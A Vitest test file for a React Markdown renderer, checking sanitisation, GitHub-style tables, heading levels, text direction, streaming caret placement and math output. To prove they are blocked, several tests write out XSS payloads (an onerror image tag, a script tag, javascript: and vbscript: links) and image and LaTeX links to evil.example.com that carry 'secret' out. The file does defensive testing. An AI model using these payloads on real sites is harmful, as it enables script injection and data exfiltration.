import { renderToStaticMarkup } from "react-dom/server";
import ReactMarkdown from "react-markdown";
import remarkGfm from "remark-gfm";
import { expect, it } from "vitest";
import { RenderedMath } from "./rendered-math";
import { MarkdownView } from "./view";

const html = (text: string, caret = false) =>
  renderToStaticMarkup(<MarkdownView text={text} caret={caret} Formulas={RenderedMath} />);

it("Markdown keeps HTML as text, and removes the address of links that run code", () => {
  const evil =
    "<img src=x onerror=alert(1)>\n\n<script>alert(1)</script>\n\n[a](javascript:alert(1)) [b](data:text/html,x) [c](vbscript:x)";
  expect(html(evil)).not.toMatch(/<img|<script|href="[^"]/);
});

it("Markdown loads nothing from other servers", () => {
  const remote = html(
    "![pixel](https://evil.example.com/a.gif?talk=secret)\n\n![x](//evil.example.com/b.gif)",
  );
  expect(remote).not.toMatch(/<img|src=/);
  expect(remote).toContain("evil.example.com");
});

it("Markdown renders an image in a data URL", () => {
  expect(html("![dot](data:image/png;base64,AAAA)")).toContain('src="data:image/png;base64,AAAA"');
});

it("Markdown opens links in a new tab without referrer, and footnotes on the page", () => {
  expect(html("[a](https://example.com)")).toContain('target="_blank" rel="noopener noreferrer"');
  const note = html("One[^1].\n\n[^1]: Two.");
  expect(note).not.toContain("_blank");
  expect(note.match(/id="([^"]+fn-1)"/)?.[1]).toBe(note.match(/href="#([^"]+fn-1)"/)?.[1]);
});

it("Markdown starts headings below those of the page", () => {
  expect(html("# A\n\n###### B")).toMatch(/<h3[^>]*>A<\/h3>\s*<h6[^>]*>B<\/h6>/);
  expect(html("## A\n\n### B")).toMatch(/<h3[^>]*>A<\/h3>\s*<h4[^>]*>B<\/h4>/);
});

it("Markdown supports tables, tasks and strikethrough of GitHub", () => {
  expect(html("| a | b |\n|---|--:|\n| 1 | 2 |")).toMatch(/<table.*text-align:right/);
  expect(html("- [x] done")).toContain('type="checkbox"');
  expect(html("~~no~~ but about ~5 or ~6")).toContain("<del>no</del> but about ~5 or ~6");
  expect(html("| a |\n|---|\n| 1<br>2 |")).toMatch(/1<br\/>\s*2/);
});

it("lists, quotes and tables follow the direction of their text", () => {
  const markup = html("1. خبز\n\n- a\n\n> خبز\n\n| خبز |\n|---|\n| 1 |");
  expect(markup.match(/<(?:ol|ul|blockquote|table) dir="auto"/g)).toHaveLength(4);
});

it("Markdown keeps the text of fenced code and names its language; renders inline code as a chip", () => {
  const fence = html('```ts\nconst a = "<b>";\n```');
  expect(fence).toContain("TypeScript");
  // If the highlighter is loaded already, colors split the text into elements.
  expect(fence.replace(/<[^>]*>/g, "")).toContain("const a = &quot;&lt;b&gt;&quot;;");
  expect(html("a `b` c")).toMatch(/<code class="[^"]*bg-fill[^"]*">b<\/code>/);
});

it("Markdown puts the caret after the last word in any element", () => {
  expect(html("One two", true)).toMatch(/two<span class="caret"><\/span><\/p>/);
  expect(html("- One\n- Two\n  - Three", true)).toMatch(/Three<span class="caret"><\/span><\/li>/);
  expect(html("", true)).toContain('<span class="caret"></span>');
  expect(html("One two")).not.toContain("caret");
});

it("Markdown renders incomplete markup in its final form", () => {
  expect(html("This is **bo", true)).toContain('<strong class="font-strong">bo</strong>');
  expect(html("See [the pa", true)).toMatch(/See the pa<span/);
  expect(html("Under\n-", true)).not.toContain("<h");
});

it("Markdown renders a growing text like a complete one", () => {
  const text = "# A\n\nOne **two**\n\n1. a\n2. b\n\n   more\n\n```js\nlet a;\n```\n\n| a |\n|---|\n| 1 |\n";
  const whole = renderToStaticMarkup(<ReactMarkdown remarkPlugins={[remarkGfm]}>{text}</ReactMarkdown>);
  const tags = (markup: string) => markup.match(/<(h\d|p|li|ol|strong|pre|td)\b/g)?.join(" ");
  expect(tags(html(text))?.replace("h3", "h1")).toBe(tags(whole));
});

it("Markdown renders formulas accessibly without loading anything", () => {
  const markup = html(
    "So $a^2$ for $5:\n\n$$ \\href{https://evil.example.com}{x} \\includegraphics{https://evil.example.com/a.png} $$",
  );
  expect(markup.match(/<math /g)).toHaveLength(2);
  expect(markup).toContain("for $5:");
  expect(markup).not.toMatch(/<a |<img|href=|src=/);
  expect(markup).toContain('data-slot="scroll-area"');
});
